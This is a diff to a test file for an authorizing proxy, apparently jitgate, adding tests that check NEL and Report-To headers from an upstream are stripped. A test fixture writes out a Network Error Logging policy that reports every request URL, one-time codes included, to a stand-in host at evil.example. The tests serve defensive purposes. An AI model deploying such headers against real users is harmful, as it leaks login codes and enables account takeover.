@@ -14,6 +14,8 @@ import { countFigures } from './figures.js';
  * - `Clear-Site-Data: "cookies"` (or `"*"`) makes the browser delete every cookie of the site (the
  *   registrable domain: sibling hosts too), jitgate's access cookies and session among them: one
  *   upstream signs everyone out of every resource, which jitgate forbids its Set-Cookie to do.
+ * - `NEL` with `Report-To` sets a Network Error Logging policy for the whole origin, which reports
+ *   the URL of every later request there, one-time codes included, to the upstream's endpoint.
  *
  * The authorizer removes both from every upstream answer that could carry them that way; its own
  * directives that harm nothing else (`"cache"`) are kept.
@@ -69,6 +71,29 @@ describe('attack: a pathPrefix upstream widens its service worker to the whole o
     const a = await answeredWith('/sw.js', hosted, [['service-worker-allowed', '/']], HOSTED);
     expect(a.status).toBe(200);
     expect(a.headers['service-worker-allowed']).toBe('/');
+  });
+});
+
+describe('attack: a pathPrefix upstream asks the browser to report every request of the origin', () => {
+  // Network Error Logging is a policy of the whole origin: with success_fraction 1 the browser sends
+  // the URL of every later request there (a redeem or step-up link's one-time code in its query)
+  // to the endpoint the policy names (Report-To), which the upstream chooses.
+  const nel = '{"report_to":"leak","max_age":86400,"success_fraction":1.0,"include_subdomains":true}';
+  const reportTo = '{"group":"leak","max_age":86400,"endpoints":[{"url":"https://evil.example/r"}]}';
+
+  it('when it sends NEL and Report-To, then neither reaches the browser', async () => {
+    const a = await answeredWith('/app/x', app, [
+      ['nel', nel],
+      ['report-to', reportTo],
+    ]);
+    expect(a.status).toBe(200);
+    expect(a.headers.nel).toBeUndefined();
+    expect(a.headers['report-to']).toBeUndefined();
+  });
+
+  it('when a host resource sends them for its own origin, then they are kept', async () => {
+    const a = await answeredWith('/x', hosted, [['nel', nel]], HOSTED);
+    expect(a.headers.nel).toBe(nel);
   });
 });
 
